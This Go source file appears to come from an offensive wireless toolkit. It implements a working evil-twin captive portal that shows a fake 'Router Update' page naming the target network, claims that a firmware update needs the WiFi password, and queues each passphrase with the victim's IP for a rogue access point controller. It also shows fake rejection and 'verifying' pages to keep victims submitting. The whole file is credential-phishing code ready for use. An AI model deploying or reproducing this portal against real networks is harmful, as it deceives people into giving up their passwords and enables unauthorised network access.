package services

import (
	"context"
	"fmt"
	"html/template"
	"net"
	"net/http"
	"sync"
	"time"

	"github.com/gorilla/mux"

	"github.com/lcr-sec/dualstrike/internal/core/domain"
)

var portalPage = template.Must(template.New("portal").Parse(`<!DOCTYPE html>
<html>
<head>
<title>{{.ESSID}} - Router Update</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
</head>
<body>
<h2>{{.ESSID}}</h2>
<p>Your router firmware requires an update. Please confirm your WiFi
password to continue.</p>
{{if .Rejected}}<p style="color:red">Incorrect password, please try again.</p>{{end}}
<form method="POST" action="/login">
<input type="password" name="password" placeholder="WiFi password" required minlength="8">
<button type="submit">Update</button>
</form>
</body>
</html>
`))

// Portal is the captive portal HTTP server. Submitted passphrases queue up
// for the rogue-AP controller, which polls NextCredential each loop step.
type Portal struct {
	addr  string
	essid string

	mu       sync.Mutex
	server   *http.Server
	queue    []domain.CapturedCredential
	rejected bool
	running  bool
}

func NewPortal(addr, essid string) *Portal {
	return &Portal{addr: addr, essid: essid}
}

func (p *Portal) Name() string { return "captive portal" }

// SetTarget updates the network name shown on the login page. A new target
// also resets any rejection banner left over from a previous attack.
func (p *Portal) SetTarget(iface, essid string, channel int) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.essid = essid
	p.rejected = false
}

func (p *Portal) Start() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.running {
		return fmt.Errorf("portal already running on %s", p.addr)
	}

	r := mux.NewRouter()
	r.HandleFunc("/login", p.handleLogin).Methods(http.MethodPost)
	// Everything else, including OS captive-portal probes, lands on the
	// login page.
	r.PathPrefix("/").HandlerFunc(p.handleIndex)

	listener, err := net.Listen("tcp", p.addr)
	if err != nil {
		return fmt.Errorf("portal listen on %s: %w", p.addr, err)
	}

	p.server = &http.Server{Handler: r, ReadHeaderTimeout: 5 * time.Second}
	p.running = true
	go func() {
		p.server.Serve(listener)
		p.mu.Lock()
		p.running = false
		p.mu.Unlock()
	}()
	return nil
}

func (p *Portal) Stop() error {
	p.mu.Lock()
	server := p.server
	p.server = nil
	p.mu.Unlock()

	if server == nil {
		return nil
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	return server.Shutdown(ctx)
}

func (p *Portal) IsRunning() bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.running
}

// NextCredential pops the oldest unconsumed submission.
func (p *Portal) NextCredential() (domain.CapturedCredential, bool) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if len(p.queue) == 0 {
		return domain.CapturedCredential{}, false
	}
	cred := p.queue[0]
	p.queue = p.queue[1:]
	return cred, true
}

// Reject makes the next page render flag the previous attempt as wrong.
// The controller calls it after a failed validation.
func (p *Portal) Reject() {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.rejected = true
}

func (p *Portal) handleIndex(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	essid, rejected := p.essid, p.rejected
	p.mu.Unlock()

	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	portalPage.Execute(w, struct {
		ESSID    string
		Rejected bool
	}{ESSID: essid, Rejected: rejected})
}

func (p *Portal) handleLogin(w http.ResponseWriter, r *http.Request) {
	password := r.FormValue("password")
	clientIP, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		clientIP = r.RemoteAddr
	}

	if password != "" {
		p.mu.Lock()
		// A fresh attempt clears the banner until the controller judges it.
		p.rejected = false
		p.queue = append(p.queue, domain.CapturedCredential{
			Passphrase: password,
			ClientIP:   clientIP,
			CapturedAt: time.Now(),
		})
		p.mu.Unlock()
	}

	// Keep the victim on a plausible waiting page while the controller
	// validates.
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprint(w, `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="5;url=/">`+
		`<title>Updating...</title></head><body><p>Verifying password, please wait...</p></body></html>`)
}
